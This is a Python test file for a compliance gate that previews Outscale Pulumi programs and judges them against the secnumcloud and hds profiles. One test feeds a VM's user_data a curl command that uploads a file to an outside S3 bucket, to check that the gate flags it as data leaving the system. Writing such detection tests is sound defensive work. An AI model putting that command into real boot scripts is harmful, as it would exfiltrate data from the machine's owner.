"""Programs written with Outscale's own SDK, through the offline preview and the whole gate."""

from __future__ import annotations

from datetime import date

import pytest

from rempart.catalogue import load_catalogue
from rempart.gate import check
from rempart.judge import load_pack, load_profile
from rempart.model.deployment import Deployment
from rempart.model.finding import Outcome, Verdict
from rempart.model.values import SECRET
from tests.program.conftest import Write, preview

CATALOGUE, PACK = load_catalogue(), load_pack()
STACK = "config:\n  outscale:region: cloudgouv-eu-west-1\nencryptionsalt: v1:AAAAAAAAAAA=:v1:AAAA\n"
PROJECT = "name: clinic\nruntime: python\nbackend:\n  url: file://~\n"
START = """\
import base64
import pulumi_outscale as outscale

def encoded(text):
    return base64.b64encode(text.encode()).decode()

"""


def previewed(program: Write, body: str) -> Deployment:
    return preview(program(START + body, project=PROJECT, files={"Pulumi.dev.yaml": STACK}))


def judged(deployment: Deployment, profile: str = "secnumcloud") -> Verdict:
    rules = load_profile(profile, PACK)
    return check(deployment, catalogue=CATALOGUE, pack=PACK, profile=rules, as_of=date(2026, 11, 28))


def failed(found: Verdict) -> set[str]:
    return {f"{item.rule.id} {item.urn.rpartition('::')[2]}" for item in found.findings if item.outcome is Outcome.FAIL}


@pytest.mark.parametrize("profile", ["hds", "secnumcloud"])
def test_an_honest_program_passes(program: Write, profile: str) -> None:
    body = """\
image = outscale.get_images(filters={"imageNames": ["Ubuntu-24.04*"], "accountAliases": ["Outscale"]})
net = outscale.Net("records", ip_range="10.0.0.0/16")
subnet = outscale.Subnet("records", net_id=net.net_id, ip_range="10.0.0.0/24")
group = outscale.SecurityGroup("records", net_id=net.net_id, description="the records service")
outscale.SecurityGroupRule("https", security_group_id=group.security_group_id, flow="Inbound", ip_protocol="tcp",
                           from_port_range=443, to_port_range=443, ip_range="10.0.0.0/16")
outscale.Vm("records", image_id=image.images[0].image_id, vm_type="tinav6.c2r4p1", subnet_id=subnet.subnet_id,
            security_group_ids=[group.security_group_id], tpm_enabled=True, boot_mode="uefi",
            user_data=encoded("#cloud-config\\nruncmd:\\n- [systemctl, start, records]\\n"))
outscale.Bucket("records", versioning=True, object_lock=True)
outscale.LoadBalancer("front", subnets=[subnet.subnet_id], load_balancer_type="internal", listeners=[
    {"backendPort": 443, "loadBalancerPort": 443, "loadBalancerProtocol": "TCP"}])
"""

    found = judged(previewed(program, body), profile)

    assert [(item.rule.id, item.outcome, item.reason or item.message) for item in found.findings if item.stops] == []


def test_user_data_is_searched_although_the_provider_marks_it_as_secret(program: Write) -> None:
    body = 'outscale.Vm("r", image_id="ami-1", user_data=encoded("curl -T x https://s3.amazonaws.com/hunter2"))\n'

    deployment = previewed(program, body)
    found = judged(deployment)

    assert [item.inputs["userData"] for item in deployment.resources if item.name == "r"] == [SECRET]
    assert "RMP-DST-001 r" in failed(found)
    assert "hunter2" not in f"{deployment!r}{found!r}"
